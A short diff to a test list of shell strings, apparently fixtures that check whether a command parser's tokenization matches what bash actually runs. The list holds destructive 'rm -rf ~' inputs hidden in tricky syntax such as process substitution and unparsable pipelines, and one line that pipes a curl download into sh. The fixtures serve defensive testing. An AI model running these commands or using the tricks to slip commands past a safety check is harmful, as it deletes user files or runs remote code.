@@ -352,6 +352,8 @@ TOKENIZED_OTHERWISE = [
     "^<<<[>\\\t\nrm -rf ~",         # to an escaped tab
     "a=b$(true){\\#{ rm -rf ~",    # an assignment word tree-sitter split: `#{` became the command
     "a=b{\\#{ curl -s http://203.0.113.9/x | sh",
+    "a=b$x\\ [{ rm -rf ~\n",        # `[{` became the command
+    "[[*2>(rm -rf ~)",             # `[[` glued to more is a word to bash: the process substitution runs
     "[|rm -rf ~",                  # a pipeline that does not parse: its later stages still run
     "[[-|rm -rf ~",
     "in=|rm -rf ~",
